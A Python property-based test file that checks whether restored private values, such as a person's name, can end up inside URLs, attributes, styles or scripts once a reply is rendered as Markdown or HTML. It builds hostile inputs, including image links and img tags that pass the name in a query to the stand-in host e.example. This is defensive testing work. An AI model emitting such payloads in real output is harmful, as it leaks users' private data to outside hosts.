"""What a renderer makes of a restored reply: no value in any address, attribute, style or script.

The scanner of places is tried against a real Markdown renderer and an HTML parser: whatever they make of a
reply put together from hostile pieces, a value may only be text.
"""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.support.stages import restorer_of

markdown_it = pytest.importorskip("markdown_it", reason="the Markdown renderer that rich brings is not installed")

RESTORER, (TOKEN,) = restorer_of(("Zebedee Quux", "PERSON"))
RENDERERS = [
    markdown_it.MarkdownIt("commonmark", {"html": True}),
    markdown_it.MarkdownIt("gfm-like", {"linkify": False}),
]
HARMLESS = frozenset({"alt", "title"})
"""Attributes that Markdown fills with text and that send nothing."""

PIECES = [
    TOKEN, TOKEN, TOKEN, f" {TOKEN}", f"{TOKEN} ", " ", "\n", "\n\n", "a", "x ", "[", "]", "(", ")", "![", "](",
    "![x](", "[a](", "[a]: ", "]:", "[a]", "<", ">", "</", "<a href=", "<img src=", '<img src="', "<img src='", "<p ",
    "<div>\n", "<style>", "</style>", "<script>", "</script>", "<!--", "-->", "<?", "=", '"', "'", "/", "\\", "`",
    "```\n", "*", "_", ":", "//", "https://e.example/", "<https://e.example/", "?q=", "&", "&quot;", "&lt;", "&#95;",
    "url(", "> ", "- ", "\t", "mailto:", "!",
]  # fmt: skip


class Collector(HTMLParser):
    """Everything that isn't plain text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name not in HARMLESS]
        if tag != "zebedee":  # `<Zebedee Quux>`: a value alone in brackets is no tag that does anything
            self.found += [name for name, _ in attrs]

    def parse_marked_section(self, i: int, report: bool = True) -> int:
        """In HTML `<![` begins a comment that ends at `>`; the library raises at some of them."""
        end = self.rawdata.find(">", i)
        return end + 1 if end >= 0 else -1

    def handle_data(self, data: str) -> None:
        if self.cdata_elem:
            self.found.append(data)


def leaks(reply: str) -> list[str]:
    """What of the restored reply is neither text nor harmless, as the renderers see it."""
    restored = RESTORER.whole(reply)
    found = []
    for render in [r.render for r in RENDERERS] + [lambda text: text]:
        collector = Collector()
        collector.feed(render(restored))
        collector.close()
        found += [each for each in collector.found if "zebedee" in each.lower() or "quux" in each.lower()]
    return found


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
@example(f'\\<a x="><img src="https://e.example/?q=> {TOKEN}">')
@example(f'<div>\n<img src="https://e.example/?q=\n\n{TOKEN}\n\n">')
@example(f"[a]: <https://e.example/? {TOKEN}>\n\n![a]")
def test_a_value_is_only_ever_text(reply: str) -> None:
    assert leaks(reply) == []


def test_the_oracle_sees_a_leak() -> None:
    collector = Collector()
    collector.feed(RENDERERS[0].render("![x](https://e.example/?q=Zebedee%20Quux)"))
    assert "https://e.example/?q=Zebedee%20Quux" in collector.found
